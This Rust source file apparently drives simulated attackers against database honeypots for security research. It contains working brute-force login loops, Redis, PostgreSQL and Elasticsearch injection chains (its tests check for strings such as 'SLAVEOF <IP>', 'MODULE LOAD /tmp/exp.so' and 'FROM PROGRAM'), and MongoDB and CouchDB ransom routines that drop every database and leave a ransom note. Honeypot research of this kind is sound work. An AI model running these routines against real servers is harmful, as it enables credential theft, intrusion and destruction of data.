//! The attack client: the conversation each [`SessionScript`] holds with a
//! honeypot, in the target's real wire protocol.
//!
//! The scripts are written as the paper's listings read, one `async fn`
//! per conversation over the `decoy-wire` client codecs, and generic over a
//! [`Dial`] transport. They name no runtime and read no clock. Responses
//! drive control flow, as in real attack scripts: a failed PostgreSQL login
//! aborts the Kinsing injection, a ransom bot deletes the databases the
//! listing returned. Two transports run them. decoy-fleet's TCP transport
//! (network mode) announces the actor over a PROXY header and bounds a
//! visit in wall time. decoy-honeypots' in-memory transport feeds the same
//! frames to the honeypots' session machines, so tier-1 checks what the
//! machines log against direct mode (`tests/modes_offline.rs`).

use crate::schedule::PlannedSession;
use crate::scripts::{self, CampaignParams, SessionScript};
use decoy_base::json::{self, Value};
use decoy_store::{foreign, Dbms};
use decoy_wire::buf::Bytes;
use decoy_wire::codec::{Codec, Connection, Dial, RawCodec};
use decoy_wire::error::{NetError, NetResult};
use decoy_wire::http::{HttpClientCodec, HttpRequest, HttpResponse};
use decoy_wire::mongo::bson::{doc, Bson, Document};
use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
use decoy_wire::mysql::{Greeting, LoginRequest, MySqlCodec, MySqlPacket};
use decoy_wire::pgwire::{BackendMessage, FrontendMessage, PgClientCodec};
use decoy_wire::resp::{RespCodec, RespValue};
use decoy_wire::tds::{self, Login7, TdsCodec, TdsPacket};
use std::future::Future;

/// What happened while executing one planned session.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SessionOutcome {
    /// Connections opened.
    pub connections: usize,
    /// Exchanges that ended in an I/O or protocol error.
    pub errors: usize,
}

impl SessionOutcome {
    /// Count one connection and whether its exchange failed.
    fn tally(&mut self, exchange: NetResult<()>) {
        self.connections += 1;
        self.errors += usize::from(exchange.is_err());
    }

    /// A visit of one connection.
    fn one(exchange: NetResult<()>) -> SessionOutcome {
        let mut outcome = SessionOutcome::default();
        outcome.tally(exchange);
        outcome
    }
}

/// Execute `session` over `net`.
pub async fn run<D: Dial>(net: &mut D, session: &PlannedSession) -> SessionOutcome {
    let params = CampaignParams::derive(u64::from(u32::from(session.src)));
    let one = SessionOutcome::one;
    match &session.script {
        SessionScript::ConnectOnly => one(connect(net, RawCodec).await.map(drop)),
        SessionScript::MysqlBrute { creds } => burst(net, MySqlCodec, creds, mysql_login).await,
        SessionScript::MssqlBrute { creds } => burst(net, TdsCodec, creds, mssql_login).await,
        SessionScript::PgBrute { creds } => burst(net, PgClientCodec::new(), creds, pg_try).await,
        SessionScript::PgLogin {
            user,
            password,
            repeats,
        } => {
            let creds = vec![(user.clone(), password.clone()); (*repeats).max(1) as usize];
            burst(net, PgClientCodec::new(), &creds, pg_try).await
        }
        SessionScript::RedisAuth { passwords } => one(redis_auth(net, passwords).await),
        SessionScript::RedisScout { type_walk } => one(redis_scout(net, *type_walk).await),
        SessionScript::ElasticScout { deep } => one(elastic_scout(net, *deep).await),
        SessionScript::MongoScout { deep } => one(mongo_scout(net, *deep).await),
        SessionScript::PgScout => one(pg_session(net, &["SELECT version();".into()]).await),
        SessionScript::P2pInfect => {
            one(redis_campaign(net, scripts::p2pinfect_commands(&params)).await)
        }
        SessionScript::AbcBot => one(redis_campaign(net, scripts::abcbot_commands(&params)).await),
        SessionScript::RedisCve20220543 => {
            one(redis_campaign(net, scripts::redis_cve_commands()).await)
        }
        SessionScript::Kinsing => one(pg_session(net, &scripts::kinsing_queries(&params)).await),
        SessionScript::PgPrivilege => {
            one(pg_session(net, &scripts::pg_privilege_queries(&params)).await)
        }
        SessionScript::Lucifer => one(lucifer(net, &params).await),
        SessionScript::MongoRansom { group } => one(mongo_ransom(net, *group, &params).await),
        SessionScript::HarvestAndReuse => one(harvest_and_reuse(net).await),
        SessionScript::CouchScout => one(couch_scout(net).await),
        SessionScript::CouchRansom => one(couch_ransom(net, &params).await),
        SessionScript::MysqlScout => one(mysql_scout(net).await),
        SessionScript::RdpProbe => {
            one(raw_probe(net, foreign::rdp_connection_request("Administr")).await)
        }
        SessionScript::JdwpProbe => one(raw_probe(net, foreign::jdwp_handshake()).await),
        SessionScript::VmwareRecon => {
            let body = foreign::vmware_soap_body();
            let probe = HttpRequest::new("POST", "/sdk").with_body("text/xml", body);
            one(http_probe(net, probe).await)
        }
        SessionScript::CraftCms => {
            let target = "/index.php?p=admin/actions/conditions/render";
            let probe = HttpRequest::new("POST", target).with_body(
                "application/x-www-form-urlencoded",
                foreign::craftcms_probe_body(),
            );
            one(http_probe(net, probe).await)
        }
        SessionScript::FingerprintProbe => one(fingerprint(net, session.target.dbms).await),
    }
}

/// Open one connection; a transport that opens none fails the visit.
async fn connect<D: Dial, C: Codec + 'static>(net: &mut D, codec: C) -> NetResult<D::Conn<C>> {
    net.dial(codec).await.unwrap_or(Err(NetError::Shutdown))
}

/// The frame a reply must be: a server that closed instead failed the
/// exchange.
fn reply<T>(frame: Option<T>) -> NetResult<T> {
    frame.ok_or(NetError::UnexpectedEof)
}

/// A brute-force burst: one connection per credential, since servers close
/// after a failed login, until the credentials or the transport's budget
/// run out.
async fn burst<'c, D, C, F, Fut>(
    net: &mut D,
    codec: C,
    creds: &'c [(String, String)],
    mut attempt: F,
) -> SessionOutcome
where
    D: Dial,
    C: Codec + Clone + 'static,
    F: FnMut(D::Conn<C>, &'c str, &'c str) -> Fut,
    Fut: Future<Output = NetResult<()>>,
{
    let mut outcome = SessionOutcome::default();
    for (user, password) in creds {
        let Some(conn) = net.dial(codec.clone()).await else {
            break;
        };
        let exchange = match conn {
            Ok(conn) => attempt(conn, user, password).await,
            Err(e) => Err(e),
        };
        outcome.tally(exchange);
    }
    outcome
}

/// Greeting, a cleartext login, and the server's answer.
async fn mysql_login<C: Connection<MySqlCodec>>(
    mut mysql: C,
    user: &str,
    password: &str,
) -> NetResult<()> {
    mysql_hello(&mut mysql, user, password).await.map(drop)
}

/// Read the greeting, log in, and say whether the server let the client in.
async fn mysql_hello<C: Connection<MySqlCodec>>(
    mysql: &mut C,
    user: &str,
    password: &str,
) -> NetResult<bool> {
    let greeting = reply(mysql.recv().await?)?;
    Greeting::parse(&greeting.payload)?;
    let login = MySqlPacket {
        seq: greeting.seq.wrapping_add(1),
        payload: LoginRequest::cleartext(user, password, None).build(),
    };
    mysql.send(&login).await?;
    let answer = mysql.recv().await?;
    Ok(answer.is_some_and(|p| p.payload.first() == Some(&0x00)))
}

/// One `COM_QUERY`, whose answer is `packets` packets long.
async fn mysql_query<C: Connection<MySqlCodec>>(
    mysql: &mut C,
    sql: &str,
    packets: usize,
) -> NetResult<()> {
    let query = MySqlPacket {
        seq: 0,
        payload: [&[0x03], sql.as_bytes()].concat().into(),
    };
    mysql.send(&query).await?;
    for _ in 0..packets {
        reply(mysql.recv().await?)?;
    }
    Ok(())
}

/// Post-login reconnaissance against the medium MySQL honeypot (§7).
async fn mysql_scout<D: Dial>(net: &mut D) -> NetResult<()> {
    let mut mysql = connect(net, MySqlCodec).await?;
    if mysql_hello(&mut mysql, "root", "root").await? {
        // column count, definition, EOF, row, EOF
        mysql_query(&mut mysql, "SELECT @@version", 5).await?;
        mysql_query(&mut mysql, "SHOW DATABASES", 5).await?;
        let quit = MySqlPacket {
            seq: 0,
            payload: vec![0x01].into(),
        };
        let _ = mysql.send(&quit).await;
    }
    Ok(())
}

/// PRELOGIN, LOGIN7, and the server's answer.
async fn mssql_login<C: Connection<TdsCodec>>(
    mut mssql: C,
    user: &str,
    password: &str,
) -> NetResult<()> {
    let options = [
        (0x00, vec![15, 0, 0, 0, 0, 0].into()),
        (0x01, vec![2].into()),
    ];
    let prelogin = tds::build_prelogin(&options);
    mssql
        .send(&TdsPacket::eom(tds::PKT_PRELOGIN, prelogin))
        .await?;
    mssql.recv().await?;
    let login = Login7 {
        hostname: "WIN-SCAN".into(),
        username: user.into(),
        password: password.into(),
        appname: "OSQL-32".into(),
        servername: "MSSQLSERVER".into(),
        database: String::new(),
    };
    mssql
        .send(&TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
        .await?;
    mssql.recv().await?;
    Ok(())
}

/// Startup and password: whether the server let the client in, in which
/// case it waits for queries.
async fn pg_login<C: Connection<PgClientCodec>>(
    pg: &mut C,
    user: &str,
    password: &str,
) -> NetResult<bool> {
    let startup = FrontendMessage::Startup {
        params: vec![
            ("user".into(), user.into()),
            ("database".into(), "postgres".into()),
        ],
    };
    pg.send(&startup).await?;
    loop {
        match reply(pg.recv().await?)? {
            BackendMessage::AuthenticationCleartextPassword
            | BackendMessage::AuthenticationMd5Password { .. } => {
                pg.send(&FrontendMessage::Password(password.into())).await?;
            }
            BackendMessage::AuthenticationOk => return pg_ready(pg).await,
            BackendMessage::ErrorResponse { .. } => return Ok(false),
            _ => {}
        }
    }
}

/// Read to `ReadyForQuery`: false when the server closed first.
async fn pg_ready<C: Connection<PgClientCodec>>(pg: &mut C) -> NetResult<bool> {
    loop {
        match pg.recv().await? {
            Some(BackendMessage::ReadyForQuery { .. }) => return Ok(true),
            Some(_) => {}
            None => return Ok(false),
        }
    }
}

/// One brute-force guess; a server that lets the client in is left at once.
async fn pg_try<C: Connection<PgClientCodec>>(
    mut pg: C,
    user: &str,
    password: &str,
) -> NetResult<()> {
    if pg_login(&mut pg, user, password).await? {
        let _ = pg.send(&FrontendMessage::Terminate).await;
    }
    Ok(())
}

/// Log in as `postgres` and run `queries`, reading each response to
/// completion (Listings 4 and 13). A rejected login ends the visit.
async fn pg_session<D: Dial>(net: &mut D, queries: &[String]) -> NetResult<()> {
    let mut pg = connect(net, PgClientCodec::new()).await?;
    if !pg_login(&mut pg, "postgres", "postgres").await? {
        return Ok(());
    }
    for query in queries {
        pg.send(&FrontendMessage::Query(query.clone())).await?;
        if !pg_ready(&mut pg).await? {
            return Err(NetError::UnexpectedEof);
        }
    }
    let _ = pg.send(&FrontendMessage::Terminate).await;
    Ok(())
}

/// One Redis command and its reply.
async fn redis<C: Connection<RespCodec>, S: AsRef<[u8]>>(
    conn: &mut C,
    parts: &[S],
) -> NetResult<RespValue> {
    conn.send(&RespValue::command(parts)).await?;
    reply(conn.recv().await?)
}

async fn redis_auth<D: Dial>(net: &mut D, passwords: &[String]) -> NetResult<()> {
    let mut conn = connect(net, RespCodec::client()).await?;
    for password in passwords {
        redis(&mut conn, &["AUTH", password.as_str()]).await?;
    }
    Ok(())
}

/// `INFO`, `DBSIZE`, `KEYS *`, and with `type_walk` a `TYPE` per key (§6).
async fn redis_scout<D: Dial>(net: &mut D, type_walk: bool) -> NetResult<()> {
    let mut conn = connect(net, RespCodec::client()).await?;
    redis(&mut conn, &["INFO"]).await?;
    redis(&mut conn, &["DBSIZE"]).await?;
    let keys = redis(&mut conn, &["KEYS", "*"]).await?;
    if let (true, RespValue::Array(keys)) = (type_walk, keys) {
        for key in keys.iter().filter_map(RespValue::as_text) {
            redis(&mut conn, &["TYPE", key.as_str()]).await?;
        }
    }
    Ok(())
}

/// `KEYS *`, `GET` the first eight entries, then try the harvested values
/// as passwords: an adversary with knowledge of the bait (§4.2).
async fn harvest_and_reuse<D: Dial>(net: &mut D) -> NetResult<()> {
    let mut conn = connect(net, RespCodec::client()).await?;
    let mut harvested = Vec::new();
    if let RespValue::Array(keys) = redis(&mut conn, &["KEYS", "*"]).await? {
        for key in keys.iter().filter_map(RespValue::as_text).take(8) {
            if let RespValue::Bulk(value) = redis(&mut conn, &["GET", key.as_str()]).await? {
                harvested.push(String::from_utf8_lossy(&value).into_owned());
            }
        }
    }
    for password in harvested.iter().take(4) {
        redis(&mut conn, &["AUTH", password.as_str()]).await?;
    }
    Ok(())
}

/// A campaign's command sequence (Listings 1–3), pushed through whatever
/// the server answers, as the bots do.
async fn redis_campaign<D: Dial>(net: &mut D, commands: Vec<Vec<String>>) -> NetResult<()> {
    let mut conn = connect(net, RespCodec::client()).await?;
    for command in &commands {
        redis(&mut conn, command).await?;
    }
    Ok(())
}

/// One HTTP request and its response.
async fn http<C: Connection<HttpClientCodec>>(
    conn: &mut C,
    request: HttpRequest,
) -> NetResult<HttpResponse> {
    conn.send(&request).await?;
    reply(conn.recv().await?)
}

fn get(target: &str) -> HttpRequest {
    HttpRequest::new("GET", target)
}

async fn elastic_scout<D: Dial>(net: &mut D, deep: bool) -> NetResult<()> {
    let mut conn = connect(net, HttpClientCodec).await?;
    http(&mut conn, get("/")).await?;
    http(&mut conn, get("/_cluster/health")).await?;
    http(&mut conn, get("/_nodes")).await?;
    if deep {
        http(&mut conn, get("/_cat/indices?v")).await?;
        let search = HttpRequest::new("POST", "/_search")
            .with_body("application/json", r#"{"query":{"match_all":{}}}"#);
        http(&mut conn, search).await?;
    }
    Ok(())
}

/// The script-field injection of Listings 5–6: the search body, then each
/// shell stage through the same field.
async fn lucifer<D: Dial>(net: &mut D, params: &CampaignParams) -> NetResult<()> {
    let mut conn = connect(net, HttpClientCodec).await?;
    let mut bodies = vec![scripts::lucifer_search_body(params)];
    for stage in scripts::lucifer_shell_stages(params) {
        let stage = stage.replace('"', "\\\"");
        bodies.push(format!(
            r#"{{"script_fields":{{"exp":{{"script":"{stage}"}}}}}}"#
        ));
    }
    for body in bodies {
        let search = HttpRequest::new("POST", "/_search").with_body("application/json", body);
        http(&mut conn, search).await?;
    }
    Ok(())
}

/// A foreign-service probe over HTTP (Listings 12 and 14).
async fn http_probe<D: Dial>(net: &mut D, probe: HttpRequest) -> NetResult<()> {
    let mut conn = connect(net, HttpClientCodec).await?;
    http(&mut conn, probe).await.map(drop)
}

/// The database names in a CouchDB `_all_dbs` listing (none when the body
/// is no JSON array).
fn db_names(listing: &[u8]) -> Vec<String> {
    let listing = json::parse(listing).unwrap_or_default();
    let names = listing.as_array().unwrap_or_default().iter();
    names
        .filter_map(Value::as_str)
        .map(str::to_string)
        .collect()
}

async fn couch_scout<D: Dial>(net: &mut D) -> NetResult<()> {
    let mut conn = connect(net, HttpClientCodec).await?;
    http(&mut conn, get("/")).await?;
    let dbs = http(&mut conn, get("/_all_dbs")).await?;
    for db in db_names(&dbs.body).iter().take(4) {
        http(&mut conn, get(&format!("/{db}/_all_docs"))).await?;
    }
    Ok(())
}

/// Read and delete every database, then leave a note (§7).
async fn couch_ransom<D: Dial>(net: &mut D, params: &CampaignParams) -> NetResult<()> {
    let mut conn = connect(net, HttpClientCodec).await?;
    let dbs = http(&mut conn, get("/_all_dbs")).await?;
    for db in db_names(&dbs.body).iter().filter(|db| *db != "warning") {
        http(&mut conn, get(&format!("/{db}/_all_docs"))).await?;
        http(&mut conn, HttpRequest::new("DELETE", &format!("/{db}"))).await?;
    }
    let note = scripts::ransom_note(0, &params.hash_hex()[..8]);
    let note = json::object([("note", note.into())]).to_string();
    let put = HttpRequest::new("PUT", "/warning/readme").with_body("application/json", note);
    http(&mut conn, put).await.map(drop)
}

/// One MongoDB command under the next request id, and its reply document.
async fn mongo<C: Connection<MongoCodec>>(
    conn: &mut C,
    request_id: &mut i32,
    command: Document,
) -> NetResult<Document> {
    *request_id += 1;
    conn.send(&MongoMessage::msg(*request_id, command)).await?;
    match reply(conn.recv().await?)?.body {
        MongoBody::Msg { doc, .. } => Ok(doc),
        _ => Err(NetError::protocol("unexpected reply opcode")),
    }
}

/// A command run against the `admin` database.
fn admin(command: &str) -> Document {
    doc! { command => 1i32, "$db" => "admin" }
}

/// The `name` of every document in a BSON array.
fn names(array: Option<&Bson>) -> Vec<String> {
    let docs = array.and_then(Bson::as_array).unwrap_or_default();
    let name = |d: &Bson| d.as_doc().and_then(|d| d.get_str("name")).map(String::from);
    docs.iter().filter_map(name).collect()
}

/// The handshake, and with `deep` the database and collection listing §6
/// flags as institutional.
async fn mongo_scout<D: Dial>(net: &mut D, deep: bool) -> NetResult<()> {
    let mut conn = connect(net, MongoCodec).await?;
    let mut rid = 0;
    mongo(&mut conn, &mut rid, admin("isMaster")).await?;
    mongo(&mut conn, &mut rid, admin("buildInfo")).await?;
    if deep {
        let dbs = mongo(&mut conn, &mut rid, admin("listDatabases")).await?;
        for db in names(dbs.get("databases")) {
            let list = doc! { "listCollections" => 1i32, "$db" => db };
            mongo(&mut conn, &mut rid, list).await?;
        }
    }
    Ok(())
}

/// Listings 7–8: list the databases, then per victim database exfiltrate
/// and drop each collection, table by table (§6.3), and insert the note.
async fn mongo_ransom<D: Dial>(net: &mut D, group: u8, params: &CampaignParams) -> NetResult<()> {
    let mut conn = connect(net, MongoCodec).await?;
    let mut rid = 0;
    mongo(&mut conn, &mut rid, admin("isMaster")).await?;
    let dbs = mongo(&mut conn, &mut rid, admin("listDatabases")).await?;
    let system = ["admin", "local", "config"];
    for db in names(dbs.get("databases")) {
        if system.contains(&db.as_str()) {
            continue;
        }
        let db = db.as_str();
        let list = doc! { "listCollections" => 1i32, "$db" => db };
        let colls = mongo(&mut conn, &mut rid, list).await?;
        let batch = colls.get_doc("cursor").and_then(|c| c.get("firstBatch"));
        for coll in names(batch) {
            let coll = coll.as_str();
            let find = doc! { "find" => coll, "$db" => db, "limit" => 0i32 };
            mongo(&mut conn, &mut rid, find).await?;
            mongo(&mut conn, &mut rid, doc! { "drop" => coll, "$db" => db }).await?;
        }
        let note = scripts::ransom_note(group, &params.hash_hex()[..8]);
        let insert = doc! {
            "insert" => "README",
            "$db" => db,
            "documents" => vec![Bson::Document(doc! { "content" => note })],
        };
        mongo(&mut conn, &mut rid, insert).await?;
    }
    Ok(())
}

/// Listings 10–11: throw a foreign protocol's opening bytes at the port,
/// wait for a banner or an error, and leave.
async fn raw_probe<D: Dial>(net: &mut D, payload: Vec<u8>) -> NetResult<()> {
    let mut conn = connect(net, RawCodec).await?;
    conn.send(&Bytes::from(payload)).await?;
    let _banner = conn.recv().await;
    Ok(())
}

/// The scanner side of the fingerprinting arms race (§7): grab the banner,
/// cross-check an advertised capability, and elicit one error-catalog
/// response, the network shape of the `decoy-fingerprint` battery. It is
/// not the battery: MySQL logs in as root/root, Redis sends no HELLO, and
/// no round trip is timed. MSSQL gets a banner grab only.
async fn fingerprint<D: Dial>(net: &mut D, dbms: Dbms) -> NetResult<()> {
    match dbms {
        Dbms::Redis => {
            let mut conn = connect(net, RespCodec::client()).await?;
            redis(&mut conn, &["INFO", "server"]).await?;
            redis(&mut conn, &["FINGERPRINTPROBE", "arg"]).await?;
        }
        Dbms::Postgres => {
            let queries = ["SELECT version();", "FROBNICATE the catalog"];
            pg_session(net, &queries.map(String::from)).await?;
        }
        Dbms::MySql => {
            let mut mysql = connect(net, MySqlCodec).await?;
            if mysql_hello(&mut mysql, "root", "root").await? {
                mysql_query(&mut mysql, "SELECT @@version", 5).await?;
                // gibberish SQL: one ERR packet back
                mysql_query(&mut mysql, "FINGERPRINT PROBE", 1).await?;
            }
        }
        Dbms::MongoDb => {
            let mut conn = connect(net, MongoCodec).await?;
            let mut rid = 0;
            for command in ["isMaster", "buildInfo", "fingerprintProbe"] {
                mongo(&mut conn, &mut rid, admin(command)).await?;
            }
        }
        Dbms::Elastic | Dbms::CouchDb => {
            let missing = match dbms {
                Dbms::Elastic => "/fingerprint_probe_missing",
                _ => "/fingerprint_probe_missing_db",
            };
            let mut conn = connect(net, HttpClientCodec).await?;
            http(&mut conn, get("/")).await?;
            http(&mut conn, get(missing)).await?;
        }
        Dbms::Mssql => drop(connect(net, RawCodec).await?),
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::actors::TargetSelector;
    use decoy_base::time::{Clock, EXPERIMENT_START};
    use decoy_honeypots::driver::{poll_once, Memory};
    use decoy_store::{ConfigVariant, Event, EventKind, EventStore, HoneypotId, InteractionLevel};
    use std::net::{IpAddr, Ipv4Addr};
    use std::sync::Arc;

    /// Run `script` from 60.5.0.77 against honeypot `id` in memory.
    fn run_against(id: HoneypotId, script: SessionScript) -> (Arc<EventStore>, SessionOutcome) {
        let store = EventStore::new();
        let mut honeypot = Memory::deploy(&store, id, 11, Clock::simulated()).unwrap();
        let session = PlannedSession {
            ts: EXPERIMENT_START,
            actor_idx: 0,
            src: Ipv4Addr::new(60, 5, 0, 77),
            target: TargetSelector::low_multi(Dbms::Redis),
            script,
        };
        let src = IpAddr::V4(session.src);
        let outcome = poll_once(run(honeypot.with_source(src), &session));
        (store, outcome.expect("an in-memory visit never waits"))
    }

    fn low(dbms: Dbms) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0)
    }

    fn med(dbms: Dbms, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Medium, config, 0)
    }

    fn mongo() -> HoneypotId {
        HoneypotId::new(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
            0,
        )
    }

    /// How many logged events are of a kind `pred` holds for.
    fn count(store: &EventStore, pred: impl Fn(&EventKind) -> bool) -> usize {
        store.filter(|e| pred(&e.kind)).len()
    }

    /// The `action` of every logged command.
    fn actions(store: &EventStore) -> Vec<String> {
        let action = |e: Event| match e.kind {
            EventKind::Command { action, .. } => Some(action),
            _ => None,
        };
        store.all().into_iter().filter_map(action).collect()
    }

    /// The `raw` text of every logged command.
    fn raws(store: &EventStore) -> Vec<String> {
        let raw = |e: Event| match e.kind {
            EventKind::Command { raw, .. } => Some(raw),
            _ => None,
        };
        store.all().into_iter().filter_map(raw).collect()
    }

    #[test]
    fn db_names_reads_an_all_dbs_listing() {
        assert_eq!(
            db_names(br#"["customers", 7, "warning"]"#),
            ["customers", "warning"]
        );
        assert!(db_names(br#"{"error":"not_found"}"#).is_empty());
        assert!(db_names(b"[\"unterminated").is_empty());
    }

    #[test]
    fn mssql_brute_is_captured_with_proxy_source() {
        let creds = vec![
            ("sa".to_string(), "123".to_string()),
            ("sa".to_string(), "123456".to_string()),
        ];
        let (store, outcome) = run_against(low(Dbms::Mssql), SessionScript::MssqlBrute { creds });
        assert_eq!(
            outcome,
            SessionOutcome {
                connections: 2,
                errors: 0
            }
        );
        let logins = store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }));
        assert_eq!(logins.len(), 2);
        assert!(logins
            .iter()
            .all(|e| e.src == IpAddr::V4(Ipv4Addr::new(60, 5, 0, 77))));
    }

    #[test]
    fn mysql_brute_roundtrip() {
        let creds = vec![("root".to_string(), "aaaaaa".to_string())];
        let (store, outcome) = run_against(low(Dbms::MySql), SessionScript::MysqlBrute { creds });
        assert_eq!(outcome.errors, 0);
        let logins = store.filter(|e| {
            matches!(&e.kind, EventKind::LoginAttempt { username, password, .. }
                if username == "root" && password == "aaaaaa")
        });
        assert_eq!(logins.len(), 1);
    }

    #[test]
    fn p2pinfect_campaign_full_sequence() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::P2pInfect,
        );
        assert_eq!(outcome.errors, 0, "campaign should complete");
        let cmds = actions(&store);
        assert!(cmds.len() >= 20, "{} commands", cmds.len());
        assert!(cmds.iter().any(|c| c.starts_with("SLAVEOF <IP>")));
        assert!(cmds.iter().any(|c| c.contains("MODULE LOAD /tmp/exp.so")));
        assert!(cmds.iter().any(|c| c.starts_with("SYSTEM.EXEC")));
    }

    #[test]
    fn kinsing_against_open_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::Kinsing,
        );
        assert_eq!(outcome.errors, 0);
        let cmds = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action.contains("FROM PROGRAM"))
        });
        assert_eq!(cmds.len(), 1);
    }

    #[test]
    fn kinsing_against_restricted_pg_stops_at_login() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::LoginDisabled),
            SessionScript::Kinsing,
        );
        assert_eq!(outcome.errors, 0);
        let commands = count(&store, |k| matches!(k, EventKind::Command { .. }));
        assert_eq!(commands, 0, "no queries get through a rejected login");
        let refused = |k: &EventKind| matches!(k, EventKind::LoginAttempt { success: false, .. });
        assert_eq!(count(&store, refused), 1);
    }

    #[test]
    fn ransom_empties_the_mongo_honeypot() {
        let (store, outcome) = run_against(mongo(), SessionScript::MongoRansom { group: 0 });
        assert_eq!(outcome.errors, 0);
        let actions = actions(&store);
        assert!(actions.iter().any(|a| a == "listDatabases"));
        assert!(actions.iter().any(|a| a.starts_with("find customers.")));
        assert!(actions.iter().any(|a| a.starts_with("drop customers.")));
        assert!(actions.iter().any(|a| a == "insert customers.README"));
    }

    #[test]
    fn jdwp_probe_recognized_on_redis() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::JdwpProbe,
        );
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "jdwp-scan")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[test]
    fn rdp_probe_recognized_on_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::RdpProbe,
        );
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "rdp-scan")
        });
        assert_eq!(payloads.len(), 1, "events: {:?}", store.all());
    }

    #[test]
    fn redis_type_walk_on_fake_data() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::RedisScout { type_walk: true },
        );
        assert_eq!(outcome.errors, 0);
        let types = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE ")),
        );
        assert_eq!(types.len(), decoy_fakedata::REDIS_FAKE_ENTRIES);
    }

    #[test]
    fn elastic_and_mongo_scouts_and_foreign_probes() {
        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::ElasticScout { deep: true },
        );
        assert_eq!(outcome.errors, 0);
        assert!(count(&store, |k| matches!(k, EventKind::Command { .. })) >= 5);

        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::VmwareRecon,
        );
        assert_eq!(outcome.errors, 0);
        let vmware = |k: &EventKind| matches!(k, EventKind::Payload { recognized: Some(r), .. } if r == "vmware-recon");
        assert_eq!(count(&store, vmware), 1);

        let (store, outcome) = run_against(mongo(), SessionScript::MongoScout { deep: true });
        assert_eq!(outcome.errors, 0);
        let actions = actions(&store);
        assert!(actions.contains(&"listDatabases".to_string()));
        assert!(actions.iter().any(|a| a.starts_with("listCollections ")));
    }

    #[test]
    fn harvest_and_reuse_presents_bait_passwords() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::HarvestAndReuse,
        );
        assert_eq!(outcome.errors, 0);
        // the bait entries of this instance seed
        let bait = decoy_fakedata::REDIS_FAKE_ENTRIES;
        assert!(bait > 0);
        let gets = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("GET user:")),
        );
        assert_eq!(gets.len(), 8);
        let logins: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::LoginAttempt { password, .. } => Some(password),
                _ => None,
            })
            .collect();
        assert_eq!(logins.len(), 4);
        // every presented credential is a real bait value (knowledge!)
        assert!(logins.iter().all(|p| !p.is_empty()));
    }

    #[test]
    fn couch_extension_scripts_over_tcp() {
        let couch = med(Dbms::CouchDb, ConfigVariant::FakeData);
        let (store, outcome) = run_against(couch, SessionScript::CouchScout);
        assert_eq!(outcome.errors, 0);
        let seen = raws(&store);
        assert!(seen.iter().any(|r| r == "GET /_all_dbs"));
        assert!(seen.iter().any(|r| r.contains("_all_docs")));

        let (store, outcome) = run_against(couch, SessionScript::CouchRansom);
        assert_eq!(outcome.errors, 0);
        let seen = raws(&store);
        assert!(seen.iter().any(|r| r.starts_with("DELETE /")));
        assert!(seen.iter().any(|r| r.contains("BTC")));
    }

    #[test]
    fn mysql_med_scout_over_tcp() {
        let mysql_med = med(Dbms::MySql, ConfigVariant::Default);
        let (store, outcome) = run_against(mysql_med, SessionScript::MysqlScout);
        assert_eq!(outcome.errors, 0);
        let let_in = |k: &EventKind| matches!(k, EventKind::LoginAttempt { success: true, .. });
        assert_eq!(count(&store, let_in), 1);
        let show =
            |k: &EventKind| matches!(k, EventKind::Command { raw, .. } if raw == "SHOW DATABASES");
        assert_eq!(count(&store, show), 1);
    }

    #[test]
    fn connect_only_logs_connect_disconnect() {
        let (store, outcome) = run_against(low(Dbms::Redis), SessionScript::ConnectOnly);
        assert_eq!(outcome.errors, 0);
        let kinds: Vec<_> = store.all().into_iter().map(|e| e.kind).collect();
        assert!(kinds.contains(&EventKind::Connect));
        assert!(kinds.contains(&EventKind::Disconnect));
    }
}
